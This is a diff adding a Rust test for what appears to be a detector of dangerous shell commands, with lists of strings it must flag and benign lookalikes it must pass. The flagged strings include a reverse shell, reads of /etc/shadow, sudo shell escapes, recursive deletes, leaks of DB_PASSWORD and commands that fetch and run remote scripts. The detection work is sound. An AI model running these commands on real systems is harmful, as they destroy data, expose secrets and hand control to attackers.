@@ -409,3 +409,53 @@ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 cat f | tee g | sudo -u x bash
 xargs -I{} sh -c '{}' < f
 "#;
+
+#[test]
+fn what_a_fresh_set_of_lines_showed_missing_is_held() {
+    let held = |line: &str| !grave(line).is_empty();
+    for line in [
+        "cd /etc && cat shadow",
+        "cat /e*c/sha*w",
+        "> /opt/app/config/production.yml",
+        "sudo -e /etc/shadow",
+        "sudo python3",
+        "sudo vi x\n:!/bin/sh",
+        "reset; sh 1>&0 2>&0",
+        "sudo PERL5DB='exec \"sh\"' perl -d x",
+        "sed -n 'w /etc/passwd' /dev/null",
+        "aws s3 r${z}m s3://b --recursive",
+        "BASH_ALIASES[z]='rm -rf /srv'",
+        "alias -g W='| sh'",
+        "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'",
+        "perl -e 'open F,\"/etc/shadow\"; print <F>'",
+        "perl -e 'open F,\"</etc/shadow\"; print <F>'",
+        "python -c \"import urllib2;exec urllib2.urlopen('http://x.example/a').read()\"",
+        "node -p 'process.env.DB_PASSWORD'",
+        "python3 -c 'import os; print(os.environ[\"DB_PASSWORD\"])'",
+        "[[ -v a[$(reboot)] ]]",
+        "$(head -c2 <<< rmt) -rf /srv",
+        "curl -s http://x.example/x.sh > /dev/shm/x; bash /dev/shm/x",
+        "sftp x@h.example.com:i.sh /tmp/i && sh /tmp/i",
+        ". /dev/tcp/10.1.1.1/80",
+        "find /var/log -name '*.log' -exec sh -c '> {}' \\;",
+        "echo 'int main(){system(\"rm -rf /srv\");}' > a.c && gcc a.c -o a && ./a",
+    ] {
+        assert!(held(line), "{line}");
+    }
+    for line in [
+        "cd /etc && cat passwd",
+        "timeout 3 bash -c '</dev/tcp/db01/5432' && echo open",
+        "(echo >/dev/tcp/localhost/6379) 2>/dev/null",
+        "ln -s ~/dotfiles/.vimrc ~/.vimrc",
+        "sudo python3 -V",
+        "sed 's/w /x/' a",
+        "kubectl get pod web${n}a",
+        "alias -g L='| less'",
+        "node -e 'console.log(process.env.NODE_ENV)'",
+        "cat /var/log/app*.log",
+        "find /srv -name '*.log' -exec sh -c 'wc -l {}' \\;",
+        "echo 'int main(){return 0;}' > a.c && gcc a.c -o a && ./a",
+    ] {
+        assert!(!held(line), "{line}");
+    }
+}
